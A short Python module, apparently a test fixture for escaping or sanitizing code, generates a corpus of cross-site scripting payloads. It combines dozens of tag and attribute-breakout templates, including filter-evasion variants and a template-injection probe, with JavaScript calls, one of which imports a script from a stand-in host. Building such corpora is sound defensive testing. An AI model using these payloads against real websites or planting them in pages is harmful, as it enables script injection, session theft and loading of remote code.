"""Texts that would run a script or steal a click, were one of them ever printed as it is."""

from __future__ import annotations

from itertools import product

_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example/x.js')", "eval(name)")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea></noscript><script>{}</script>",
    "<script\x0c>{}</script>",
    "<script/x>{}</script\t>",
    "<<script>{}//<</script>",
    "<img src=x onerror={}>",
    "<img/src='x'/onerror='{}'>",
    "<image href=1 onerror={}>",
    "<svg onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text x=20 y=20>x</text></a>",
    "<math><mi xlink:href='javascript:{}'>x</mi></math>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src onloadstart={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<a href='&#106;avascript&colon;{}'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<marquee onstart={}>x</marquee>",
    "\" onmouseover=\"{}\" x=\"",
    "' onfocus='{}' autofocus='",
    "\"><script>{}</script>",
    "'><svg/onload={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script><![CDATA[",
    "{{{{ self.__init__.__globals__ }}}} {{% raw %}} {}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\ufeff<script>{}</script>",
)  # fmt: skip

CORPUS = tuple(tag.format(call) for tag, call in product(_TAGS, _CALLS))
